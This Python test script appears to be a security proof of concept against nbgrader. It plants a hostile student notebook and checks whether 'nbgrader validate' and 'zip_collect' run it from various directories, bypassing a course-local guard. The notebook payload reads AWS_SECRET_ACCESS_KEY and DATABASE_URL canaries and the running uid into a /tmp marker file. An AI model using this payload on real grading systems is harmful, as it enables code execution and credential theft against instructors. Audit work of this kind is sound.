"""a08: the Validate guard (and zip_collect's refusal) is installed by the course's nbgrader_config.py, which nbgrader
reads from the folder it runs in. The TA runs `nbgrader validate <course>/submitted/mallory/ps1_memory/ps1_memory.ipynb`
from elsewhere (their home, the course's parent, a shell left in /tmp): is mallory's hand-in run, as root?
mallory's answer cell writes a marker file as whoever runs it and copies the grader-environment canary into it."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
MARK = "/tmp/a40-a08-PWNED"
PAYLOAD = f'''
import os
open({MARK!r}, "w").write(f"uid={{os.getuid()}} AWS={{os.environ.get('AWS_SECRET_ACCESS_KEY')}} DB={{os.environ.get('DATABASE_URL')}}\\n")
'''
root = make_course("a08")
for st in ("aaron", "zoe"):
    hand_in(root, st, honest())
d = hand_in(root, "mallory", hostile(PAYLOAD))
nbp = f"{d}/{A}.ipynb"
env = dict(os.environ, **ENV_CANARY)
for cwd in (root, "/tmp", os.path.dirname(root), os.path.expanduser("~")):
    if os.path.exists(MARK): os.unlink(MARK)
    p = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "validate", nbp], cwd=cwd, env=env, capture_output=True, text=True, timeout=300)
    print(f"--- nbgrader validate from cwd={cwd}: rc={p.returncode}")
    print("   stdout:", p.stdout[-400:].replace("\n", " | "))
    print("   stderr:", p.stderr[-400:].replace("\n", " | "))
    print("   MARKER:", open(MARK).read().strip() if os.path.exists(MARK) else "none (not run)")
    if os.path.exists(MARK): print("   marker owner uid:", os.stat(MARK).st_uid)
# zip_collect outside the course folder, pointed at it
p = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "zip_collect", "--CourseDirectory.root=" + root, A], cwd="/tmp", env=env, capture_output=True, text=True, timeout=120)
print("--- zip_collect from /tmp with --CourseDirectory.root:", p.returncode, p.stderr[-600:].replace("\n", " | "))
# variant: the graded copy in autograded/ (made inert for the browser, but its code cells are mallory's), from /tmp
grade(root)
g = f"{root}/autograded/mallory/{A}/{A}.ipynb"
if os.path.exists(MARK): os.unlink(MARK)
p = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "validate", g], cwd="/tmp", env=env, capture_output=True, text=True, timeout=300)
print(f"--- nbgrader validate of the graded copy from /tmp: rc={p.returncode}", p.stdout[-200:].replace("\n", " | "))
print("   MARKER:", open(MARK).read().strip() if os.path.exists(MARK) else "none (not run)")
if os.path.exists(MARK): os.unlink(MARK)
# variants: from a folder inside the course (the TA working in source/ps1_memory), and from /tmp with --CourseDirectory.root
for cwd, extra in ((f"{root}/source/{A}", []), ("/tmp", [f"--CourseDirectory.root={root}"])):
    if os.path.exists(MARK): os.unlink(MARK)
    p = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "validate", *extra, nbp], cwd=cwd, env=env, capture_output=True, text=True, timeout=300)
    print(f"--- nbgrader validate {' '.join(extra)} from cwd={cwd}: rc={p.returncode}", (p.stdout + p.stderr)[-200:].replace("\n", " | "))
    print("   MARKER:", open(MARK).read().strip() if os.path.exists(MARK) else "none (not run)")
if os.path.exists(MARK): os.unlink(MARK)
